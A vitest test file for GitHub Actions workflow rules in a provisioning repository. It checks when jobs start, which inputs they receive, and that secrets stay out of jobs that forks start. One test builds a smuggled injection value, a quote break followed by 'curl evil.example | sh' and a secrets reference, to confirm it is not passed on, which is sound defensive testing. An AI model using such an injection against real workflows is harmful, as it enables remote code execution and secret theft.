import { describe, expect, it } from 'vitest';
import { handed, type Occasion, REPOSITORY } from '../../local-cloud/runner/handed.ts';
import { readAction } from '../../local-cloud/runner/workflows.ts';

/** Whether GitHub would begin the job. */
function begins(workflow: string, job: string, occasion: Occasion): boolean {
  return handed(workflow, job, occasion) !== undefined;
}

/** The inputs of our action that differ from their defaults. */
function inputs(workflow: string, job: string, occasion: Occasion): Record<string, string> {
  const variables = handed(workflow, job, occasion) ?? {};
  const all = Object.entries(readAction().inputs).map(([name, { default: standard }]) => {
    return [name, variables[`INPUT_${name.toUpperCase()}`] ?? '', standard] as const;
  });
  return Object.fromEntries(
    all.filter(([, value, standard]) => value !== standard).map(([name, value]) => [name, value]),
  );
}

/** The end of a run of plan. */
function planned(over: { from?: string | null; conclusion?: string; event?: string } = {}): Occasion {
  const { from = REPOSITORY, conclusion = 'success', event = 'pull_request' } = over;
  const head_repository = from === null ? null : { full_name: from };
  return { name: 'workflow_run', event: { workflow_run: { event, conclusion, head_repository, head_sha: 'abc' } } };
}

describe('after a plan', () => {
  const vars = { PROVISIONER_LIVE_PLAN: 'true' };

  it.each([
    ['of a fork', { from: 'eve/control-room' }, true],
    ['of a fork that is gone', { from: null }, true],
    ['of a fork that has problems', { from: 'eve/control-room', conclusion: 'failure' }, true],
    ['of a fork that nobody let run', { from: 'eve/control-room', conclusion: 'action_required' }, false],
    ['of a fork that was overtaken', { from: 'eve/control-room', conclusion: 'cancelled' }, false],
    ['of a branch of ours', {}, false],
    ['that no pull request began', { from: 'eve/control-room', event: 'push' }, false],
  ])('%s the comment is written: %j', (_, over, expected) => {
    expect(begins('plan-follow', 'fork', { ...planned(over), vars })).toBe(expected);
  });

  it.each([
    ['of a branch of ours', {}, true],
    ['of a fork', { from: 'eve/control-room' }, false],
    ['of a fork that is gone', { from: null }, false],
    ['that has problems', { conclusion: 'failure' }, false],
    ['that no pull request began', { event: 'push' }, false],
  ])('%s the vendors are looked at: %j', (_, over, expected) => {
    expect(begins('plan-follow', 'live', { ...planned(over), vars })).toBe(expected);
  });

  it('nobody looks at the vendors unless it was set up', () => {
    expect(begins('plan-follow', 'live', planned())).toBe(false);
  });

  it('the pull request is told by its head alone', () => {
    expect(inputs('plan-follow', 'fork', planned({ from: 'eve/control-room' }))).toEqual({ head: 'abc' });
    expect(inputs('plan-follow', 'live', { ...planned(), vars })).toEqual({ head: 'abc', live: 'true' });
  });
});

describe('a plan', () => {
  const of = (repo: object | null): Occasion => {
    return { name: 'pull_request', ref: 'refs/pull/7/merge', event: { pull_request: { number: 7, head: { repo } } } };
  };

  it.each([
    ['a branch of ours is said on its pull request', { full_name: REPOSITORY }, {}],
    ['a fork is not', { full_name: 'eve/control-room' }, { comment: 'false' }],
    ['a fork that is gone is not', null, { comment: 'false' }],
  ])('of %s', (_, repo, expected) => {
    expect(inputs('plan', 'plan', of(repo))).toEqual({ 'pull-request': '7', ...expected });
  });
});

describe('intake', () => {
  const vars = { CONTROL_PLANE_SUPABASE_URL: 'https://company.example' };
  const dispatched = (request: string): Occasion => {
    return { name: 'repository_dispatch', event: { client_payload: { request_id: request } } };
  };
  const labelled = (label: string): Occasion => {
    return { name: 'issues', event: { label: { name: label }, issue: { number: 12 } } };
  };

  it.each<[string, Occasion, boolean]>([
    ['the company’s app dispatches', dispatched('r-1'), true],
    ['a maintainer approves an issue', labelled('agency-approved'), true],
    ['the form labels an issue', labelled('agency-request'), false],
    ['the sweep has a database to look into', { name: 'schedule', vars }, true],
    ['the sweep has none', { name: 'schedule' }, false],
    ['somebody starts it by hand', { name: 'workflow_dispatch' }, true],
    ['somebody starts that of a branch', { name: 'workflow_dispatch', ref: 'refs/heads/x' }, false],
  ])('when %s: %j', (_, occasion, expected) => {
    expect(begins('intake', 'intake', occasion)).toBe(expected);
  });

  it.each<[string, Occasion, object]>([
    ['a dispatch, which the action reads out of its event', dispatched('r-1'), {}],
    ['an issue', labelled('agency-approved'), { issue: '12' }],
    ['a person', { name: 'workflow_dispatch', inputs: { request: 'r-2', issue: '' } }, { request: 'r-2' }],
    ['the schedule', { name: 'schedule', vars }, {}],
  ])('hears from %s what to take in', (_, occasion, expected) => {
    expect(inputs('intake', 'intake', occasion)).toEqual({ command: 'intake', ...expected });
  });

  it('hands on nothing that a stranger wrote', () => {
    const request = `"; curl evil.example | sh # \${{ secrets.X }} '`;
    expect(JSON.stringify(handed('intake', 'intake', dispatched(request)))).not.toContain('evil');
  });
});

describe('apply and drift', () => {
  it.each(['apply', 'drift'])('%s runs for main only', (name) => {
    expect(begins(name, name, { name: 'schedule' })).toBe(true);
    expect(begins(name, name, { name: 'workflow_dispatch', ref: 'refs/heads/x' })).toBe(false);
    expect(begins(name, name, { name: 'workflow_dispatch', ref: 'refs/tags/main' })).toBe(false);
  });

  it('apply takes what a person asked for, and nothing from a push', () => {
    const asked = { agencies: 'acme-studio', all: false, failed: true };
    expect(inputs('apply', 'apply', { name: 'workflow_dispatch', inputs: asked })).toEqual({
      command: 'apply',
      agencies: 'acme-studio',
      failed: 'true',
    });
    expect(inputs('apply', 'apply', { name: 'push' })).toEqual({ command: 'apply' });
  });
});

describe('secrets', () => {
  const secrets = {
    SUPABASE_ACCESS_TOKEN: 'sb',
    PROVISIONER_APP_PRIVATE_KEY: 'pem',
    CONTROL_PLANE_SUPABASE_SECRET_KEY: 'k',
  };
  const values = Object.values(secrets);
  const seen = (workflow: string, job: string, occasion: Occasion) => {
    const variables = handed(workflow, job, { token: 'job', secrets, ...occasion });
    return Object.values(variables ?? {}).filter((value) => [...values, 'job'].includes(value));
  };

  it('reach no job that a fork begins', () => {
    const event = { pull_request: { number: 7, head: { repo: { full_name: 'eve/control-room' } } } };
    expect(seen('plan', 'plan', { name: 'pull_request', event })).toEqual(['job']);
    expect(seen('plan-follow', 'fork', planned({ from: 'eve/control-room' }))).toEqual(['job']);
    expect(seen('plan-follow', 'live', planned({ from: 'eve/control-room' }))).toEqual([]);
  });

  it('reach intake without those of the vendors, and apply with all', () => {
    expect(seen('intake', 'intake', { name: 'repository_dispatch' })).toEqual(['job', 'pem', 'k']);
    expect(seen('apply', 'apply', { name: 'push' })).toEqual(['job', 'pem', 'sb', 'k']);
  });
});
